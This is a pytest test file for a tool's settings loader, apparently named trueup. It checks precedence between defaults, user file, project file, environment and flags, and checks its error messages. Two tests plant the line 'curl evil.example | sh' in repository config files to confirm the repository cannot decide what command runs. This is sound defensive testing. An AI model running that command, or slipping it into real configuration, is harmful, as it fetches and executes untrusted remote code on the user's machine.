"""Settings: four sources, one order, and the origin of each value."""

from __future__ import annotations

import pytest

from trueup.core.errors import InputError
from trueup.core.settings import Origin, resolve
from trueup.core.settings import user_settings as settings_of_the_user


@pytest.fixture
def project(tmp_path):
    folder = tmp_path / "project" / "deep" / "inside"
    folder.mkdir(parents=True)
    return folder


@pytest.fixture
def environ(tmp_path):
    return {"XDG_CONFIG_HOME": str(tmp_path / "config")}


@pytest.fixture
def user_settings(tmp_path):
    file = tmp_path / "config" / "trueup" / "config.yaml"
    file.parent.mkdir(parents=True)
    return file


def test_without_anything_the_defaults_hold(project, environ):
    resolved = resolve(environ=environ, folder=project)
    assert resolved.settings.max_attempts == 3
    assert resolved.origins["max_attempts"] == Origin("default")


def test_each_source_wins_over_the_one_below_it(project, environ, user_settings):
    def in_force(flags=None):
        return resolve(flags, environ=environ, folder=project)

    user_settings.write_text("# mine\nmax_attempts: 4\n")
    assert in_force().settings.max_attempts == 4
    assert str(in_force().origins["max_attempts"]) == f"user file {user_settings}:2:1"
    (project.parent.parent / "trueup.yaml").write_text("max_attempts: 5\n")
    assert in_force().settings.max_attempts == 5
    assert in_force().origins["max_attempts"].layer == "project file"
    environ["TRUEUP_MAX_ATTEMPTS"] = "6"
    assert in_force().settings.max_attempts == 6
    assert in_force().origins["max_attempts"] == Origin("environment", "TRUEUP_MAX_ATTEMPTS")
    assert in_force({"max_attempts": 7}).settings.max_attempts == 7
    assert in_force({"max_attempts": 7}).origins["max_attempts"] == Origin("flag", "--max-attempts")


def test_a_flag_that_was_not_given_changes_nothing(project, environ):
    assert resolve({"max_attempts": None}, environ=environ, folder=project).settings.max_attempts == 3


def test_a_project_file_may_hold_a_contract_too(project, environ):
    (project / "trueup.yaml").write_text("max_attempts: 2\ncontract:\n  description: d\n  checks: []\n")
    assert resolve(environ=environ, folder=project).settings.max_attempts == 2


def test_an_empty_project_file_is_no_error(project, environ):
    (project / "trueup.yaml").write_text("# nothing yet\n")
    assert resolve(environ=environ, folder=project).settings.max_attempts == 3


@pytest.mark.parametrize("name", ["generate", "model", "engine", "database_url"])
def test_a_repository_cannot_say_what_is_run_called_or_kept_in_the_users_name(project, environ, name):
    (project / "trueup.yaml").write_text(f"{name}: curl evil.example | sh\n")
    with pytest.raises(InputError, match=rf"trueup.yaml:1:1: '{name}' decides what is run.*TRUEUP_{name.upper()}"):
        resolve(environ=environ, folder=project)


def test_what_users_set_for_themselves_holds_in_every_folder(project, environ, user_settings, monkeypatch):
    user_settings.write_text("database_url: sqlite:////mine.db\nkeep_runs_days: 30\n")
    (project / "trueup.yaml").write_text("no: settings at all\n")
    monkeypatch.chdir(project)
    mine = settings_of_the_user(environ)
    assert (mine.database_url, mine.keep_runs_days) == ("sqlite:////mine.db", 30)
    assert settings_of_the_user(environ | {"TRUEUP_KEEP_RUNS_DAYS": "7"}).keep_runs_days == 7


@pytest.mark.parametrize("unusable", [{"XDG_CONFIG_HOME": ".config"}, {"HOME": ""}, {"HOME": "."}])
def test_a_folder_of_the_repository_is_never_the_users(project, monkeypatch, unusable):
    (project / ".config" / "trueup").mkdir(parents=True)
    (project / ".config" / "trueup" / "config.yaml").write_text("generate: curl evil.example | sh\n")
    monkeypatch.chdir(project)
    assert resolve(environ=unusable).settings.generate is None


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("max_attempt: 2\n", "1:1: unknown key 'max_attempt'; did you mean 'max_attempts'"),
        ("max_attempts: many\n", "1:15: expected 'int', got 'str'"),
        ("max_attempts: 0\n", "1:15: expected 'int' >= 1"),
        ("- a\n- b\n", "expected 'object', got 'array'"),
    ],
)
def test_a_wrong_project_file_is_told_with_its_place(project, environ, text, message):
    (project / "trueup.yaml").write_text(text)
    with pytest.raises(InputError) as caught:
        resolve(environ=environ, folder=project)
    assert message in str(caught.value)


def test_a_wrong_variable_is_told_by_its_name(project, environ):
    environ["TRUEUP_MAX_ATTEMPTS"] = "lots"
    with pytest.raises(InputError, match="environment TRUEUP_MAX_ATTEMPTS: max_attempts: .*not 'lots'"):
        resolve(environ=environ, folder=project)


def test_a_misspelt_variable_is_noticed(project, environ):
    environ["TRUEUP_MAX_ATEMPTS"] = "2"
    assert resolve(environ=environ, folder=project).notes == [
        "TRUEUP_MAX_ATEMPTS is not a setting and has no effect; did you mean TRUEUP_MAX_ATTEMPTS?"
    ]
